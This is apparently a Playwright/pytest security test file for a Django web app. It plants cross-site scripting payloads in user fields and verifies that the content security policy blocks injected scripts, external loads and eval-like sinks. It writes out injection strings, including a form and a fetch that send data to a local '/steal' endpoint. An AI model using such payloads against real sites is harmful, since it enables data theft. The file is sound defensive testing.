"""Nothing that people write runs (T13): payloads in every name and text, every page in a real browser, 0 violations.

And if one did get into a page, the content security policy would stop it and everything it tries to reach.
"""

import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests import factories as make
from tests.e2e.scripts import EYE, LOOK, PAYLOADS, PLANTED, Planter, words_of_people
from tests.e2e.test_every_page import _signed_in, _visits, opened
from tests.matrix import stage
from toli.web.middleware import SecurityHeaders

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
NUMBER = re.compile(r"__pwned\((\d+)\)")
# What Toli itself writes, or checks against a pattern that leaves no room for a script.
CODES = {
    "core.EventRecord": {"name", "payload", "failure"},
    "core.LimitCounter": {"name"},
    "audit.AuditEntry": {"actor_kind", "address", "action", "target", "details"},
    "audit.AuditAnchor": {"reason"},
    "territories.Tree": {"code"}, "territories.Level": {"code"}, "territories.Territory": {"code", "facts"},
    "territories.Node": {"path"},
    "accounts.Account": {"password", "login", "language"}, "accounts.OneTimeCode": {"purpose"},
    "accounts.Session": {"key", "method", "network"}, "accounts.Passkey": {"transports"},
    "accounts.PasskeyChallenge": {"purpose"},
    "access.Role": {"code"},
    "members.Drive": {"code", "notice_version"}, "members.Member": {"language", "name_keys"},
    "members.ConsentRecord": {"notice_version", "language", "evidence"},
    "members.ImportRun": {"file_sha256", "path", "plan", "checked"},
    "members.ImportMapping": {"headings", "columns"}, "members.ImportProblem": {"code", "params"},
    "members.Reveal": {"address"}, "members.Export": {"language", "columns"}, "members.ExportRow": {"ref"},
    "compliance.Organisation": {"brand_colour"},
    "compliance.Election": {"code"}, "compliance.KitClearance": {"certificate_number"},
    "compliance.SmsTemplate": {"code", "registered_id", "text"}, "compliance.SendingRefusal": {"rule", "channel"},
    "content.KitMedia": {"source", "digest"}, "content.KitFile": {"digest"},
    "content.KitVideo": {"source_digest", "poster_digest"}, "content.KitVideoFile": {"digest"},
    "content.KitReview": {"changed"},
    "content.Kit": {"code", "act_url"}, "content.Rendition": {"language"}, "content.KitPicture": {"digest", "poster"},
    "cards.Card": {"number", "grade", "place"},
    "assignments.Assignment": {"subject", "answer"},
    "sharing.OwnLink": {"code", "platform"}, "sharing.ShareLink": {"code"},
    "chatgroups.Campaign": {"code", "provider", "naming_pattern"}, "chatgroups.ChatGroup": {"join_address"},
    "chatgroups.JoinLink": {"code"}, "chatgroups.Migration": {"basis", "figures", "plan_hash"},
    "chatgroups.MigrationGroup": {"served_before", "serves"},
    "botgroups.Bot": {"address", "provider", "username"}, "botgroups.Chat": {"missing"},
    "botgroups.Order": {"key", "outcome"}, "botgroups.Update": {"failure"},
    "messaging.Attempt": {"code"}, "messaging.Batch": {"reason", "subject"}, "messaging.Control": {"paused"},
    "messaging.Inbound": {"ref"}, "messaging.Message": {"reason", "ref", "worker"}, "messaging.Portfolio": {"code"},
    "messaging.ReceivedCallback": {"problem"}, "messaging.PushDevice": {"name"},
    "messaging.Sender": {"code", "config", "kit_template", "prices", "provider", "reason"},
    "messaging.Turn": {"key"},
    "distribution.Relay": {"language", "rule"}, "distribution.Distribution": {"languages"},
    "distribution.Plan": {"audiences", "channels", "roles", "languages", "obstacles"},
    "distribution.PlanBatch": {"language"},
    "distribution.RecallPlace": {"asked_before"},
    "posting.Place": {"config", "language", "provider", "reason"},
    "posting.Post": {"address", "asked_before", "language", "reason", "ref", "rule", "worker"},
    "rights.RightsRequest": {"language", "counts"}, "rights.RetentionRun": {"key"},
    "rights.BreachCase": {"address", "counts"},
    "enrolment.Application": {"reason"}, "enrolment.CallSample": {"seed"},
    "enrolment.Case": {"evidence", "rule"}, "enrolment.Device": {"key_id"},
    "members.Merge": {"words"}, "rolls.Roll": {"content_hash"}, "rolls.RollLine": {"commitment", "masked_number"},
    "rolls.Challenge": {"commitment", "masked_number", "name"}, "rolls.Supplement": {"content_hash", "previous_hash"},
    "dues.Cancellation": {"reason"},  # refused by the database to be changed; the same field as in Dispute on its page
}  # fmt: skip

# So that nothing else is taken for success: these are on some page for certain.
SHOWN = {
    "members.Member.name", "accounts.Account.display_name", "chatgroups.ChatGroup.name", "accounts.Passkey.name",
    "content.Rendition.title", "content.Rendition.texts", "members.Export.purpose",
}  # fmt: skip


@pytest.fixture
def furnished(site):
    return stage.build()


def watched(page):
    """The page with the eye in it; dialogs are closed and noted."""
    page.dialogs = []
    page.context.add_init_script(EYE)
    page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
    return page


def test_every_column_for_words_is_planted_or_known_to_hold_codes():
    known = {
        f"{label}.{column}" for table in (PLANTED, CODES) for label, columns in table.items() for column in columns
    }
    assert set(words_of_people()) - known == set(), "add the column to PLANTED, or to CODES if Toli fills it"


@pytest.mark.parametrize(("language", "start"), [("hi", 0), ("en", 7)])
def test_no_page_runs_what_people_wrote(open_page, site, furnished, language, start):
    planter = Planter(start)
    planter.plant()
    pages = {name: watched(_signed_in(open_page, person, site, language)) for name, person in furnished.roles.items()}
    seen, wrong, visited = set(), [], 0
    for role, path in dict.fromkeys(_visits(furnished)):
        page = pages[role]
        if not opened(page, path):
            continue
        found = page.evaluate(LOOK)
        visited += 1
        seen |= {planter.where[int(number)] for number in NUMBER.findall(found["text"]) if int(number) in planter.where}
        if found["ran"] or found["refused"] or found["strange"]:
            wrong.append((path, role, found["ran"], found["refused"], found["strange"]))
    assert wrong == []
    assert [page.dialogs for page in pages.values() if page.dialogs] == []
    assert [page.elsewhere for page in pages.values() if page.elsewhere] == []
    assert visited > 60
    ours = {
        "members.Member.name",
        "accounts.Account.display_name",
        "chatgroups.ChatGroup.name",
        "accounts.Passkey.name",
    }
    assert (
        ours | {f"territories.Territory.name_{language}", "content.Rendition.title"} <= seen
    )  # they were really shown


def test_a_copy_of_ones_data_opened_from_the_disk_runs_nothing(open_page, furnished, tmp_path):
    """No policy protects a file: what is written into it has to be harmless by itself."""
    Planter().plant()
    file = tmp_path / "my-data.html"
    file.write_bytes(furnished.roles["member"].client.post("/me/data/copy").content)
    page = watched(open_page("/help"))
    page.goto(file.as_uri())
    found = page.evaluate(LOOK)
    assert NUMBER.search(found["text"])
    assert (found["ran"], found["strange"], page.dialogs) == ([], [], [])


def test_the_front_door_takes_odd_names_and_shows_them_as_they_are(open_page, site, settings):
    make.make_organisation()
    make.make_territories("IN/UP/Z1/A1/B1")
    make.make_drive()
    odd = PAYLOADS[1].format(n=1) + PAYLOADS[0].format(n=2)
    page = watched(open_page("/join?t=B1", language="en"))
    page.fill("input[name=name]", odd)
    page.fill("input[name=phone]", "12")
    page.click("main form button")
    page.wait_for_selector("#phone-error")
    assert page.input_value("input[name=name]") == odd  # given back after a mistake
    page.fill("input[name=phone]", "0123456789")
    page.click("main form button")
    page.wait_for_selector("input[name=code]")
    page.fill("input[name=code]", last_code(settings))
    page.click("main form button")
    page.wait_for_selector("input[name=territory]", state="attached")
    page.click("main form button >> nth=0")
    page.wait_for_selector("input[name=content]")
    page.click("main form button >> nth=0")
    page.wait_for_url(re.compile("/me"))
    for path in ("/me", "/me/data", "/me/data/correct", "/me/card", "/me/devices"):
        page.goto(path)
        found = page.evaluate(LOOK)
        assert (found["ran"], found["refused"], found["strange"]) == ([], [], []), path
    page.goto("/me/data/correct")
    assert page.input_value("input[name=name]") == odd
    assert page.dialogs == []


def last_code(settings):
    lines = "".join(path.read_text() for path in settings.OUTBOX_DIR.glob("*.jsonl"))
    return re.findall(r'"text": "(\d{6})', lines)[-1]


# -- if one got in --------------------------------------------------------------------------------------


@pytest.fixture
def elsewhere():
    """Another site: its address, and what it was asked for."""
    asked = []

    class Site(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_GET  # noqa: N815 the server's own name for it

        def log_message(self, *arguments):
            """The list above is enough."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


@pytest.fixture
def victim(open_page, site, monkeypatch):
    """A page, and ``victim.injected(html)``: /help with ``html`` in it, as if a template had let it through.

    ``policy=False`` takes our content security policy away as well: the control. What is expected to happen is named
    by ``until`` and waited for; what must not happen has a moment in which it could.
    """
    make.make_organisation()
    page, real, planted = watched(open_page("/verify")), SecurityHeaders.__call__, {}

    def call(self, request):
        answer = real(self, request)
        if planted and request.path == "/help":
            answer.content = answer.content.replace(b"</main>", planted["html"].encode() + b"</main>")
            assert planted["html"] in answer.content.decode()
            if not planted["policy"]:
                del answer["Content-Security-Policy"]
        return answer

    def injected(html, *, policy=True, until=None):
        planted.update(html=html, policy=policy)
        page.goto("/help")
        if until:
            page.wait_for_function(until)
        else:
            page.wait_for_timeout(300)
        return page.evaluate(LOOK)

    monkeypatch.setattr(SecurityHeaders, "__call__", call)
    page.injected = injected
    return page


RAN, REFUSED = "window.__ran.length", "window.__refused.length"
RUNS = (0, 1, 2, 5, 9)  # payloads that run by themselves when they stand between tags


@pytest.mark.parametrize("number", RUNS)
def test_the_control_without_the_policy_the_script_runs(victim, number):
    assert victim.injected(PAYLOADS[number].format(n=7), policy=False, until=RAN)["ran"]


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_with_the_policy_no_script_that_got_in_runs(victim, number):
    # The last of those that run is refused in a frame of its own.
    found = victim.injected(PAYLOADS[number].format(n=7), until=REFUSED if number in RUNS[:-1] else None)
    assert (found["ran"], victim.dialogs) == ([], [])
    assert found["refused"] or number not in RUNS[:-1]


@pytest.mark.parametrize(
    "html",
    [
        "<script src='{}/x.js'></script>", "<img src='{}/x.png'>", "<link rel=stylesheet href='{}/x.css'>",
        "<iframe src='{}/x'></iframe>", "<object data='{}/x'></object>", "<embed src='{}/x'>",
        "<video src='{}/x' autoplay></video>", "<style>@import '{}/x';</style>",
        "<p style='background:url({}/x)'>x</p>", "<base href='{}/'><script src='x.js'></script>",
        "<link rel=preload as=script href='{}/x.js'>", "<link rel=manifest href='{}/x'>",
    ],
)  # fmt: skip
def test_nothing_that_got_in_is_loaded_from_elsewhere(victim, elsewhere, html):
    address, asked = elsewhere
    victim.injected(html.format(address))
    assert asked == []


def test_the_control_without_the_policy_it_would_be(victim, elsewhere):
    address, asked = elsewhere
    victim.injected(f"<img src='{address}/x.png'>", policy=False)
    assert asked == ["/x.png"]


def test_a_form_that_got_in_sends_nothing_elsewhere(victim, elsewhere):
    address, asked = elsewhere
    victim.injected(f"<form action='{address}/steal' id=f method=post><input name=x value=1></form>")
    victim.evaluate("document.getElementById('f').submit()")
    victim.wait_for_function(REFUSED)
    assert asked == []


@pytest.mark.parametrize(
    "act",
    [
        "document.body.innerHTML = '<b>x</b>'", "document.write('x')", "new Function('1')()", "eval('1')",
        "document.body.insertAdjacentHTML('beforeend', '<b>')", "setTimeout('1')",
        "Object.assign(document.createElement('script'), {src: '/static/js/app.js'})",
    ],
)  # fmt: skip
def test_ways_from_text_to_script_are_shut(victim, act):
    """Trusted types: what a mistake in a script of ours could do."""
    victim.goto("/help")
    tried = f"try {{ {act}; window.__got = 'through' }} catch (error) {{ window.__got = error.name }}"
    victim.evaluate(f"() => {{ setTimeout(() => {{ {tried} }}) }}")  # later: what the test itself asks may do more
    victim.wait_for_function("window.__got")
    assert victim.evaluate("window.__got") in {"TypeError", "EvalError"}


def test_a_script_of_another_page_cannot_ask_elsewhere(victim, elsewhere):
    address, asked = elsewhere
    victim.goto("/help")
    refused = victim.evaluate(f"fetch('{address}/steal?x=1').then(() => false, () => true)")
    assert refused
    assert asked == []
